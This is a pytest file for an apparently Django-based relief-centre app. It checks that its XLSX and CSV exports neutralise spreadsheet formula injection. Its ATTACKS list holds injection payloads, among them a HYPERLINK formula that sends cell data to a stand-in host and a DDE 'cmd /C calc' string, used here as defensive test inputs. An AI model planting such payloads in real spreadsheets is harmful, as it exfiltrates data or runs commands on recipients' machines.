"""Text that a spreadsheet program would run (=, +, -, @, tab, CR first) stays text in every file the system
writes: the 日報 XLSX goes to the city and the prefecture, so a district typed at intake or the leader's notes
must never become a formula there (issue 17, formula injection)."""
import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from ops.centres.models import Role
from ops.reports import building
from tests.needs.conftest import form_data

pytestmark = pytest.mark.django_db

ATTACKS = ['=HYPERLINK("http://ev.il/?"&A1,"詳細")', "=1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
           "+81-90", "\t=1+2", "\r=1+2"]


def _cells(workbook) -> dict:
    return {cell.value: cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row
            if isinstance(cell.value, str)}


def test_districts_and_notes_from_the_pages_are_inert_text_in_the_daily_xlsx(client_as, centre, settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    intake = client_as(Role.INTAKE)
    districts = ATTACKS[:4]
    for n, district in enumerate(districts):  # four households, each said to be a different one
        response = intake.post(reverse("needs:new", kwargs={"centre": centre.slug}),
                               form_data(district=district, phone=f"090-1111-000{n}", requester_name=f"住民 {n}",
                                         requester_kana=f"ジュウミン {'アイウエ'[n]}", address=f"テスト市{n}丁目",
                                         duplicate_decision="different"))
        assert response.status_code == 302, response.context["form"].errors
    leader = client_as(Role.LEADER)
    leader.post(reverse("reports:notes", kwargs={"centre": centre.slug}),
                {"notes": "=1+1", "plan_tomorrow": "@SUM(A1:A9)\x07 ベル付き"})
    report = building.build_daily_report(centre_id=centre.pk, day=centre.today())
    cells = _cells(load_workbook(io.BytesIO(report.xlsx.read())))
    for text in [*districts, "=1+1"]:
        assert text in cells, (text, sorted(cells)[:20])
        assert cells[text].data_type == "s", (text, cells[text].data_type)
    plan = next(v for v in cells if v.startswith("@SUM"))
    assert cells[plan].data_type == "s" and "\x07" not in plan  # a control character would have raised


def test_every_text_cell_is_a_string_cell_whatever_it_starts_with():
    from openpyxl import Workbook

    from ops import spreadsheets

    wb = Workbook()
    spreadsheets.append_row(wb.active, [*ATTACKS, "#N/A", "普通の地区", 3, None])
    cells = [wb.active.cell(row=1, column=i) for i in range(1, len(ATTACKS) + 5)]
    assert all(c.data_type == "s" for c in cells[:len(ATTACKS) + 2])
    assert cells[len(ATTACKS) + 2].value == 3 and cells[len(ATTACKS) + 2].data_type == "n"
    out = io.BytesIO()
    wb.save(out)
    back = load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.data_type for c in back[1][:len(ATTACKS)]] == ["s"] * len(ATTACKS)
    assert back.cell(row=1, column=1).value == ATTACKS[0]


def test_csv_cells_starting_with_a_formula_character_get_an_apostrophe():
    from ops import spreadsheets

    out = io.StringIO()
    spreadsheets.csv_writer(out).writerows([[*ATTACKS, "普通", "090-1111-2222", 5]])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[:len(ATTACKS)] == ["'" + a for a in ATTACKS]
    assert row[len(ATTACKS):] == ["普通", "090-1111-2222", "5"]


def test_the_import_template_csv_is_written_through_the_same_writer(client_as, centre, monkeypatch):
    from ops.needs.services import importing

    monkeypatch.setattr(importing, "template_rows", lambda: [["地区"], ["=1+1"]])
    body = client_as(Role.INTAKE).get(reverse("needs:import_template", kwargs={"centre": centre.slug}))
    assert body.content.decode("utf-8-sig").splitlines() == ["地区", "'=1+1"]


def test_no_module_writes_spreadsheet_cells_but_the_one_home():
    """A new export that calls csv.writer or appends to a sheet itself would bypass the rule above."""
    import re
    from pathlib import Path

    writes = re.compile(r"\bcsv\.(writer|DictWriter)\(|\b(ws|sheet|worksheet)\.(append|cell)\(")
    root = Path(__file__).resolve().parents[2]
    offenders = [str(p.relative_to(root)) for folder in ("ops", "api", "mapping", "dvc")
                 for p in (root / folder).rglob("*.py")
                 if p.name != "spreadsheets.py"
                 and writes.search(p.read_text())]
    assert offenders == []
